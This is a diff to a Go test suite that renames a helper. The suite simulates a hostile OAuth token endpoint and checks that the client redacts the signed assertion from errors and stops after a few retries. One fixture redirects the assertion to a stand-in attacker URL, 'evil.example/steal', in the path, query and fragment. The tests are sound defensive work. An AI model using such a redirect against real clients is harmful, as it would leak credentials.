@@ -136,7 +136,7 @@ func percentEncoded(s string) string {
 	return b.String()
 }
 
-func answer(status int, body string) func(http.ResponseWriter, *http.Request, string) {
+func hostileAnswer(status int, body string) func(http.ResponseWriter, *http.Request, string) {
 	return func(w http.ResponseWriter, r *http.Request, a string) {
 		w.Header().Set("Content-Type", "application/json")
 		w.WriteHeader(status)
@@ -165,11 +165,11 @@ func TestHostileTokenEndpointNeverGetsTheAssertionIntoAnError(t *testing.T) {
 		want     []string
 	}{
 		{"200 with token_type set to the assertion", func(w http.ResponseWriter, r *http.Request, a string) {
-			answer(http.StatusOK, fmt.Sprintf(`{"access_token":"opaque-token-1234","expires_in":600,"token_type":%q}`, a))(w, r, a)
+			hostileAnswer(http.StatusOK, fmt.Sprintf(`{"access_token":"opaque-token-1234","expires_in":600,"token_type":%q}`, a))(w, r, a)
 		}, 1, []string{"token_type is not Bearer"}},
-		{"200 with the assertion as the access token", answer(http.StatusOK, `{"access_token":"ASSERTION","expires_in":600,"token_type":"Bearer"}`),
+		{"200 with the assertion as the access token", hostileAnswer(http.StatusOK, `{"access_token":"ASSERTION","expires_in":600,"token_type":"Bearer"}`),
 			1, []string{"answered with the request's own assertion as the access token"}},
-		{"200 that is not JSON and starts with the assertion", answer(http.StatusOK, `ASSERTION {`), 1, []string{"not JSON"}},
+		{"200 that is not JSON and starts with the assertion", hostileAnswer(http.StatusOK, `ASSERTION {`), 1, []string{"not JSON"}},
 		{"302 whose Location carries the assertion in path, query and fragment", func(w http.ResponseWriter, r *http.Request, a string) {
 			w.Header().Set("Location", "https://evil.example/steal/"+sigOf(a)+"?assertion="+a+"#"+a)
 			w.WriteHeader(http.StatusFound)
@@ -189,20 +189,20 @@ func TestHostileTokenEndpointNeverGetsTheAssertionIntoAnError(t *testing.T) {
 			return "HTTP/1.1 2" + sigOf(a) + " OK\r\n\r\n"
 		}), 1, []string{"sent a malformed HTTP answer"}},
 		{"400 body starting with the bare signature", func(w http.ResponseWriter, r *http.Request, a string) {
-			answer(http.StatusBadRequest, sigOf(a)+" is not a valid signature")(w, r, a)
+			hostileAnswer(http.StatusBadRequest, sigOf(a)+" is not a valid signature")(w, r, a)
 		}, 1, []string{"answered HTTP 400: [redacted] is not a valid signature"}},
-		{"401 echoing the assertion", answer(http.StatusUnauthorized, `{"error":"invalid_grant","assertion":"ASSERTION"}`),
+		{"401 echoing the assertion", hostileAnswer(http.StatusUnauthorized, `{"error":"invalid_grant","assertion":"ASSERTION"}`),
 			1, []string{"answered HTTP 401", "invalid_grant", "[redacted]", "the service account key was rejected"}},
 		{"401 echoing the assertion cut by newlines", func(w http.ResponseWriter, r *http.Request, a string) {
-			answer(http.StatusUnauthorized, "bad: "+every(a, 50, "\r\n"))(w, r, a)
+			hostileAnswer(http.StatusUnauthorized, "bad: "+every(a, 50, "\r\n"))(w, r, a)
 		}, 1, []string{"answered HTTP 401: bad: [redacted]"}},
 		{"401 echoing the assertion JSON-escaped", func(w http.ResponseWriter, r *http.Request, a string) {
-			answer(http.StatusUnauthorized, `{"error":"`+jsonEscaped(a)+`"}`)(w, r, a)
+			hostileAnswer(http.StatusUnauthorized, `{"error":"`+jsonEscaped(a)+`"}`)(w, r, a)
 		}, 1, []string{"answered HTTP 401", "[redacted]"}},
 		{"401 echoing the assertion percent-encoded", func(w http.ResponseWriter, r *http.Request, a string) {
-			answer(http.StatusUnauthorized, "assertion="+percentEncoded(a))(w, r, a)
+			hostileAnswer(http.StatusUnauthorized, "assertion="+percentEncoded(a))(w, r, a)
 		}, 1, []string{"answered HTTP 401: assertion=[redacted]"}},
-		{"503 echoing the assertion, retried", answer(http.StatusServiceUnavailable, "down, your ASSERTION"),
+		{"503 echoing the assertion, retried", hostileAnswer(http.StatusServiceUnavailable, "down, your ASSERTION"),
 			4, []string{"answered HTTP 503", "[redacted]", "gave up after 4 attempts: three retries are enough"}},
 	}
 	for _, tc := range cases {
@@ -226,7 +226,7 @@ func TestHostileTokenEndpointNeverGetsTheAssertionIntoAnError(t *testing.T) {
 }
 
 func TestRetriesAreLoggedWithTheirClassAndWait(t *testing.T) {
-	h := newHostileEndpoint(t, answer(http.StatusServiceUnavailable, "down"))
+	h := newHostileEndpoint(t, hostileAnswer(http.StatusServiceUnavailable, "down"))
 	src, debug := hostileFlow(t, h, h.TokenURL())
 	_, err := src.Token(context.Background())
 	require.Error(t, err)
